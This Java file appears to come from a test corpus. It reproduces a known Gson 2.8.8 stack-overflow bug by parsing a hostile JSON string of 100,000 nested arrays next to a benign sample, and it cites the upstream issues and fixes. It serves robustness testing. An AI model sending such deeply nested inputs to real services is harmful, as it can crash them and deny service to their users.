package corpus.gson;

import com.google.gson.Gson;
import com.google.gson.JsonParser;
import corpus.CorpusDriver;

/**
 * Gson 2.8.8: {@code JsonParser.parseString} builds the {@code JsonElement} tree recursively
 * ({@code TypeAdapters.JSON_ELEMENT.read}), so arrays nested without limit overflow the stack; the
 * parser catches the {@code StackOverflowError} and rethrows it wrapped in a {@code JsonParseException}.
 * Reported as google/gson#19 and #20 (2008); made iterative in 2.9.1 (google/gson#1912), nesting
 * limit in 2.11 (google/gson#2588).
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int depth = CorpusDriver.depth(args, 100_000);
        String hostile = CorpusDriver.nested("[", "1", "]", depth);
        CorpusDriver.run("gson", Gson.class,
                () -> JsonParser.parseString("{\"name\":\"benign\",\"items\":[1,[2,[3]]],\"map\":{\"a\":\"b\"}}"),
                () -> JsonParser.parseString(hostile));
    }
}
